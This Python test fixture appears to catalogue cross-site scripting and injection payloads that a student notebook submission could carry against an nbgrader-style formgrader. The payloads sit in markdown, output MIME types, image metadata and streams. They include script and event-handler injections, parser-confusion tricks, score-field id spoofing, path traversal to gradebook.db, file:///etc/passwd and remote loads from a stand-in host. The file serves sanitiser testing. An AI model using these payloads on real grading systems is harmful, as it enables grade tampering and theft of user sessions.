"""What a submission can carry to act where it is looked at: a table, an attack a row.

``CANARY`` stands for code that would tell on itself: in a browser it sets ``window.canary``; in every form it
names a host of its own, so that a request for it is seen.
"""

import base64

HOST = "elsewhere.invalid"
CANARY = "window.canary=1"
SOURCE = f"//{HOST}/x"
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)
PIXEL = base64.b64encode(PNG).decode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CANARY}"><script>{CANARY}</script><image href="{SOURCE}"/></svg>'
EVIL_SVG = base64.b64encode(SVG.encode()).decode()
EVIL_PAGE = base64.b64encode(f"<script>{CANARY}</script>".encode()).decode()
FORMGRADER = "/formgrader?path=class/submitted/student-01/ps0-small"

# As markdown: in a written answer, a cell of one's own, an output of text/markdown, a comment.
MARKDOWN = {
    "script": f"<script>{CANARY}</script>",
    "script from elsewhere": f'<script src="{SOURCE}"></script>',
    "script in capitals": f"<ScRiPt>{CANARY}</sCrIpT>",
    "script over lines": f"a\n<script\n>{CANARY}</script\n>",
    "script that is never closed": f"<script>{CANARY}",
    "script in a list": f"- a\n  <script>{CANARY}</script>",
    "script in a quotation": f"> <script>{CANARY}</script>",
    "script in a table": f"| a |\n|---|\n| <script>{CANARY}</script> |",
    "image that fails": f'<img src="x" onerror="{CANARY}">',
    "image without quotes": f"<img src=x onerror={CANARY}>",
    "image with a slash": f"<img/src=x/onerror={CANARY}>",
    "image from elsewhere": f'<img src="http:{SOURCE}.png">',
    "image set from elsewhere": f'<img srcset="http:{SOURCE}.png 2x" src="http:{SOURCE}.png">',
    "image of the formgrader": f"![x]({FORMGRADER})",
    "image of the formgrader, whole address": f"![x](http://127.0.0.1:8888{FORMGRADER})",
    "image that logs out": "![x](/logout)",
    "image in markdown from elsewhere": f"![x](http:{SOURCE}.png)",
    "image by reference": f"![x][y]\n\n[y]: http:{SOURCE}.png",
    "image with a title": f'![x](http:{SOURCE}.png "a\\" onerror=\\"{CANARY}")',
    "image whose text breaks out": f'![a" onerror="{CANARY}](attachment:p.png)',
    "image of a page": f"![x](data:text/html;base64,{EVIL_PAGE})",
    "image of a drawing": f"![x](data:image/svg+xml;base64,{EVIL_SVG})",
    "image that only says it is one": f"![x](data:image/png;base64,{EVIL_PAGE})",
    "image up the folders": "![x](../../../gradebook.db)",
    "image of a file": "![x](file:///etc/passwd)",
    "attachment that is not there": "![p](attachment:photo.png)",
    "attachment with a path": "![p](attachment:../photo.png)",
    "picture element": f'<picture><source srcset="http:{SOURCE}.png"><img src="http:{SOURCE}.png"></picture>',
    "svg": f"<svg onload={CANARY}>",
    "svg with a script": SVG,
    "svg with a link": f'<svg><a href="javascript:{CANARY}"><text y="20">x</text></a></svg>',
    "svg animation": f'<svg><animate onbegin="{CANARY}" attributeName="x"></animate></svg>',
    "math with a link": f'<math><mtext><a href="javascript:{CANARY}">x</a></mtext></math>',
    "math that confuses parsers": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={CANARY}&gt;'>",
    "noscript that confuses parsers": f'<noscript><p title="</noscript><img src=x onerror={CANARY}>"></noscript>',
    "template": f"<template><img src=x onerror={CANARY}></template>",
    "title that is never closed": f"<title><img src=x onerror={CANARY}>",
    "comment that ends early": f"<!--><img src=x onerror={CANARY}>-->",
    "conditional comment": f"<!--[if true]><script>{CANARY}</script><![endif]-->",
    "character data": f"<![CDATA[<img src=x onerror={CANARY}>]]>",
    "instruction": f"<?php <img src=x onerror={CANARY}> ?>",
    "frame with a document": f'<iframe srcdoc="<script>parent.{CANARY}</script>"></iframe>',
    "frame from elsewhere": f'<iframe src="http:{SOURCE}"></iframe>',
    "frame with a script": f'<iframe src="javascript:parent.{CANARY}"></iframe>',
    "object": f'<object data="http:{SOURCE}"></object>',
    "embed": f'<embed src="http:{SOURCE}">',
    "video that fails": f'<video><source onerror="{CANARY}" src="http:{SOURCE}"></video>',
    "audio that fails": f"<audio src=x onerror={CANARY}>",
    "link of a style sheet": f'<link rel="stylesheet" href="http:{SOURCE}.css">',
    "style": f"<style>body{{display:none}} @import 'http:{SOURCE}.css';</style>",
    "style of an element": f'<p style="position:fixed;inset:0;background:url(http:{SOURCE}.png)">x</p>',
    "base": f'<base href="http:{SOURCE}/">',
    "refresh": f'<meta http-equiv="refresh" content="0;url=http:{SOURCE}">',
    "form": f'<form action="http:{SOURCE}"><input name="a"><button>x</button></form>',
    "button of a form": f'<button formaction="javascript:{CANARY}">x</button>',
    "input that takes the focus": f"<input autofocus onfocus={CANARY}>",
    "text area that swallows the page": "<textarea>",
    "select that takes the focus": f"<select autofocus onfocus={CANARY}></select>",
    "details that open": f'<details open ontoggle="{CANARY}"><summary>x</summary></details>',
    "marquee": f"<marquee onstart={CANARY}>x</marquee>",
    "dialog": f"<dialog open onfocus={CANARY}>x</dialog>",
    "handler of the pointer": f'<p onmouseover="{CANARY}">x</p>',
    "handler of an animation": f'<p style="animation-name:x" onanimationstart="{CANARY}">x</p>',
    "element with the id of a mark": '<input id="small-2-explain" class="score tabbable" value="100">',
    "element with a class of the page": '<div class="nbgrader_cell panel score tabbable">x</div>',
    "element with a name of the page": '<form name="MathJax" id="formgrader"></form><a id="submission_id"></a>',
    "element that ends the box": "</div></div></div></div></div></div><h1>outside</h1>",
    "list that ends the box": "</ul></td></tr></table></main></body></html><p>outside</p>",
    "link with a script": f"[x](javascript:{CANARY})",
    "link with a script, hidden": f"[x](jAva&#115;cript:{CANARY})",
    "link with data": f"[x](data:text/html;base64,{EVIL_PAGE})",
    "link to the formgrader": f"[x]({FORMGRADER})",
    "link to a page beside the notebook": "[x](..%2f..%2f..%2f..%2fclass/submitted/student-01/ps0-small/sketch.html)",
    "link in brackets": f"<javascript:{CANARY}> <http:{SOURCE}>",
    "link by itself": f"http:{SOURCE} www.{HOST} someone@{HOST}",
    "link in raw HTML": f'<a href="javascript:{CANARY}" target="_parent" ping="http:{SOURCE}">x</a>',
    "map": f'<img usemap="#m" src="x"><map name="m"><area href="javascript:{CANARY}" shape="default"></map>',
    "heading with an id": '# small-2-explain\n\n<h1 id="small-2-explain-comment">x</h1>',
    "formula with a link": rf"$\href{{javascript:{CANARY}}}{{x}}$",
    "formula with a class": r"$\class{score tabbable}{x} \cssId{small-2-explain}{y}$",
    "formula with a style": rf"$\style{{position:fixed;background:url(http:{SOURCE}.png)}}{{x}}$",
    "formula with HTML": f"$\\text{{<img src=x onerror={CANARY}>}}$",
    "formula around HTML": f"$a<img src=x onerror={CANARY}>b$",
    "formula that redefines": r"$\def\frac#1#2{\text{outside}} \newcommand{\sum}{x}$",
    "formula that never ends": r"$\def\a{\a\a}\a$",
    "formula that leaves its place": r"$\rule[1000em]{1000em}{1000em} \kern{-2000em} \raise 99em x$",
    "formula that loads": r"$\require{html} \require{bbox} \bbox[url(x)]{x}$",
    "formula with a label": r"$$x \label{small-2-explain} \tag{1}$$ $\ref{small-2-explain}$",
    "code fence that breaks out": f"```python\n</pre></code><script>{CANARY}</script>\n```",
    "code fence with an attribute": f'```"onload={CANARY}\nx\n```',
    "diagram": f"```mermaid\ngraph TD; A[<img src=x onerror={CANARY}>]\n```",
    "name of a reference": f'[x][y]\n\n[y]: <javascript:{CANARY}> "a"',
    "control characters": f"<img\x0csrc=x\x0conerror={CANARY}> \x00<script>{CANARY}</script>",
    "other alphabets": f"＜script＞{CANARY}＜/script＞ \u202e<script>{CANARY}</script>",
    "nesting": "<b><i>" * 500 + f"<img src=x onerror={CANARY}>",
}

# As an output: kinds and what they hold.
DATA = {
    "html script": {"text/html": f"<script>{CANARY}</script>"},
    "html image": {"text/html": f'<img src="x" onerror="{CANARY}">'},
    "html image of the formgrader": {"text/html": f'<img src="{FORMGRADER}">'},
    "html style": {"text/html": "<style>body{display:none}</style><base href='/x'>"},
    "html frame": {"text/html": f'<iframe srcdoc="<script>parent.{CANARY}</script>"></iframe>'},
    "html that ends the box": {"text/html": "</div></div></div></div><h1>outside</h1>"},
    "html that is never closed": {"text/html": "<div><b><table><tr><td>"},
    "html with an id": {"text/html": '<input id="small-2-explain" class="score tabbable">'},
    "html as a list": {"text/html": ["<script>", CANARY, "</script>"]},
    "html as a number": {"text/html": 1},
    "javascript": {"application/javascript": CANARY},
    "javascript as text": {"text/javascript": CANARY},
    "widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{CANARY}</script>"}
    },
    "json": {"application/json": {"a": f"<script>{CANARY}</script>"}},
    "json that ends a script": {
        "application/vnd.plotly.v1+json": {"a": f"</script><script>{CANARY}</script>"}
    },
    "xhtml": {"application/xhtml+xml": f"<script>{CANARY}</script>"},
    "pdf": {"application/pdf": EVIL_PAGE},
    "diagram": {"text/vnd.mermaid": f"graph TD; A[<img src=x onerror={CANARY}>]"},
    "drawing": {"image/svg+xml": SVG},
    "drawing with an entity": {
        "image/svg+xml": f'<!DOCTYPE svg [<!ENTITY a SYSTEM "http:{SOURCE}">]><svg>&a;</svg>'
    },
    "picture that breaks out": {"image/png": f'x"><script>{CANARY}</script>'},
    "picture that is a page": {"image/png": EVIL_PAGE},
    "jpeg that breaks out": {"image/jpeg": f'" onerror="{CANARY}'},
    "latex": {"text/latex": f"<script>{CANARY}</script> $\\href{{javascript:{CANARY}}}{{x}}$"},
    "plain text": {"text/plain": f"<script>{CANARY}</script>"},
    "plain text in colours": {
        "text/plain": f"\x1b[31m<script>{CANARY}</script>\x1b]8;;http:{SOURCE}\x07x\x1b[0m"
    },
    "unknown kind": {f'text/html"><script>{CANARY}</script>': "x"},
    "nothing": {},
}

# As the metadata of a picture, of a cell, of a notebook.
METADATA = {
    "width that breaks out": {"image/png": {"width": f"1 onload={CANARY}"}},
    "height with a quote": {"image/png": {"height": f'1" onload="{CANARY}'}},
    "text that breaks out": {"image/png": {"alt": f'" onload="{CANARY}'}},
    "file name": {"filenames": {"image/png": f"http:{SOURCE}.png"}},
    "isolated": {"text/html": {"isolated": True}},
    "unconfined": {"image/png": {"unconfined": f'" onload="{CANARY}', "width": 10**9}},
}

STREAMS = {
    "stream": f"<script>{CANARY}</script><img src=x onerror={CANARY}>",
    "stream in colours": f"\x1b[38;5;1m<img src=x onerror={CANARY}>\x1b[0m",
    "stream with a link": f"\x1b]8;;javascript:{CANARY}\x07x\x1b]8;;\x07",
}
